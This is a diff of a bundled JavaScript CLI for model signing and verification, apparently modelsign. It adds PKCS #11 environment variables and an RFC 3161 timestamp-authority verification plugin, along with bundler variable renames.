     "use strict";
     init_errors();
+    init_passphrase();
     init_common();
     init_io();
     init_report();
@@ -63237,7 +64064,7 @@ init_io();
 init_report();
 import { mkdtempSync, rmSync as rmSync2, writeFileSync as writeFileSync2 } from "node:fs";
 import os7 from "node:os";
-import path24 from "node:path";
+import path25 from "node:path";
 
 // src/cli/verify-key.ts
 init_io();
@@ -63364,6 +64191,9 @@ var NOT_FROM_ENV = /* @__PURE__ */ new Set(["--help", "--version"]);
 var NON_FLAG_VARIABLES = /* @__PURE__ */ new Set([
   "MODELSIGN_MODEL",
   "MODELSIGN_PASSPHRASE",
+  // sign's PKCS #11 token PIN and module
+  "MODELSIGN_PKCS11_PIN",
+  "MODELSIGN_PKCS11_MODULE",
   // where `trusted-root update` keeps the refreshed Sigstore root
   "MODELSIGN_CACHE_DIR",
   // hashing engine and progress tuning (docs/performance.md)
@@ -63478,8 +64308,8 @@ function jsonSink() {
     info(msg) {
       emit("info", "message", { message: msg });
     },
-    out(text) {
-      emit("info", "report", { message: text.replace(/\n$/, "") });
+    out(text2) {
+      emit("info", "report", { message: text2.replace(/\n$/, "") });
     },
     json(v2) {
       process.stdout.write(`${JSON.stringify(v2)}
@@ -63492,9 +64322,9 @@ function terminationLogPath(flags) {
   if (p2) return p2;
   return existsSync3(DEFAULT_TERMINATION_LOG) ? DEFAULT_TERMINATION_LOG : void 0;
 }
-function clip(text, max) {
-  const b2 = Buffer.from(text, "utf8");
-  if (b2.length <= max) return text;
+function clip(text2, max) {
+  const b2 = Buffer.from(text2, "utf8");
+  if (b2.length <= max) return text2;
   return b2.subarray(0, max - 3).toString("utf8").replace(/\uFFFD+$/, "") + "...";
 }
 function failureReason(r) {
@@ -63657,12 +64487,29 @@ A Sigstore signature is never accepted without --identity or --identity-regexp (
   // A keyless bundle with no identity policy is refused by the pipeline itself (exit 2).
 };
 
+// src/cli/verify-timestamp.ts
+init_io();
+var timestampPlugin = {
+  name: "timestamp",
+  addOptions(cmd) {
+    cmd.option("--timestamp-authority <chain.pem>", "trust RFC 3161 timestamps from this TSA (its certificate, then its chain): a certificate is judged at the time stamped; repeatable", collect, []);
+  },
+  async options(flags, opts) {
+    const files = flags.timestampAuthority ?? [];
+    const { timestampAuthorityTrust: timestampAuthorityTrust2, withTimestamps: withTimestamps2 } = await Promise.resolve().then(() => (init_timestamp(), timestamp_exports));
+    const tsa = files.length > 0 ? await timestampAuthorityTrust2(files) : void 0;
+    opts.trust = opts.trust.map((t) => withTimestamps2(t, tsa));
+  }
+};
+
 // src/cli/verify-plugins.ts
 var verifyPlugins = [
   // envPlugin stays FIRST: its `prepare` fills flags from MODELSIGN_* before any other plugin reads them.
   envPlugin,
   keyPlugin,
   sigstorePlugin,
+  // timestamps wrap every trust check the plugins above and the policy configured.
+  timestampPlugin,
   // lineage records the ancestors (extra.lineage) that the policy stage then judges.
   lineagePlugin,
   policyPlugin,
@@ -63778,9 +64625,9 @@ function keyPaths(r, cleanup, secret) {
   const raw = r.input("key");
   if (!raw.includes("-----BEGIN")) return r.listInput("key");
   if (secret) r.mask(raw);
-  const dir = mkdtempSync(path24.join(process.env.RUNNER_TEMP || os7.tmpdir(), "modelsign-key-"));
+  const dir = mkdtempSync(path25.join(process.env.RUNNER_TEMP || os7.tmpdir(), "modelsign-key-"));
   cleanup.dirs.push(dir);
-  const file = path24.join(dir, secret ? "signing.key" : "trusted.pub");
+  const file = path25.join(dir, secret ? "signing.key" : "trusted.pub");
   writeFileSync2(file, raw.endsWith("\n") ? raw : `${raw}
 `, { mode: 384 });
   return [file];
